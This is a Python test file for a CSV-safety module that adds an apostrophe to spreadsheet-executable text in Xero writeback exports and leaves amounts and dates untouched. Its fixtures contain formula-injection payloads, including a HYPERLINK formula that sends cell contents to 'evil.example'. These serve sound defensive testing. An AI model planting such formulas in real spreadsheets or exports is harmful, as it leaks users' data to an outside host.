"""CSV files a person may open in a spreadsheet: text from Xero never runs as a formula; amounts stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from cynare.agent.writeback_csv import CsvApplier, version_folder
from cynare.extract.csv_safety import neutralise, neutralise_row
from cynare.extract.writeback import Posted, Rejected, WritebackDocument, XeroAllocation, XeroReceipt


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x","pay")', '\'=HYPERLINK("http://x","pay")'),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("BACS 123", "BACS 123"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str, safe: str) -> None:
    assert neutralise(text) == safe


def test_only_text_columns_are_neutralised() -> None:
    row = {"reference": "=cmd", "amount": "-12.50", "date": "2026-11-24", "note": None}
    assert neutralise_row(row, {"reference", "note"}) == {
        "reference": "'=cmd", "amount": "-12.50", "date": "2026-11-24", "note": None}  # fmt: skip


def test_the_text_fields_of_each_item_are_its_ids_and_words_never_its_amounts_or_dates() -> None:
    assert "amount" not in XeroReceipt.text_fields() and "date" not in XeroReceipt.text_fields()
    assert {"reference", "xero_payment_id", "pms_bill_id", "xero_bank_account_code"} <= XeroReceipt.text_fields()
    assert "reason" in Rejected.text_fields() and "xero_number" in Posted.text_fields()
    assert "amount" not in XeroAllocation.text_fields()


def test_writeback_csv_files_neutralise_xero_text_and_keep_amounts(tmp_path: Path) -> None:
    document = WritebackDocument(
        writeback_id="WB-1", entity="UK", created_at=datetime(2026, 11, 26, tzinfo=UTC),
        items=(
            XeroReceipt(xero_payment_id="p1", pms_bill_id="B1", date=date(2026, 11, 24), currency="GBP",
                        amount=Decimal("12.50"), xero_bank_account_code="090",
                        reference='=HYPERLINK("http://evil.example/?"&A1,"Click")'),
            XeroReceipt(xero_payment_id="p2", pms_bill_id="B1", date=date(2026, 11, 24), currency="GBP",
                        amount=Decimal("0.01"), xero_bank_account_code="-090", reference="@SUM(1+1)"),
            Rejected(dataset="bills", pms_id="B2", reason="+Contact name is already used"),
            Posted(dataset="bills", pms_id="B3", xero_id="x1", xero_number="-INV-3"),
        ),
    )  # fmt: skip
    assert CsvApplier(tmp_path).apply(document, datetime(2026, 11, 26, 2, tzinfo=UTC))
    folder = version_folder(tmp_path, document)

    def rows(kind: str) -> list[dict[str, str]]:
        with (folder / f"{kind}.csv").open(encoding="utf-8", newline="") as stream:
            return list(csv.DictReader(stream))

    receipts = rows("xero_receipt")
    assert [r["reference"] for r in receipts] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"]
    assert [r["xero_bank_account_code"] for r in receipts] == ["090", "'-090"]
    assert [(r["amount"], r["date"], r["currency"]) for r in receipts] == [
        ("12.50", "2026-11-24", "GBP"), ("0.01", "2026-11-24", "GBP")]  # fmt: skip
    assert rows("rejected")[0]["reason"] == "'+Contact name is already used"
    assert rows("posted")[0]["xero_number"] == "'-INV-3"
    assert (folder / "applied.txt").read_text(encoding="utf-8").splitlines()[2] == f"version={document.version}"
    assert not CsvApplier(tmp_path).apply(document, datetime(2026, 11, 27, tzinfo=UTC))  # applied once
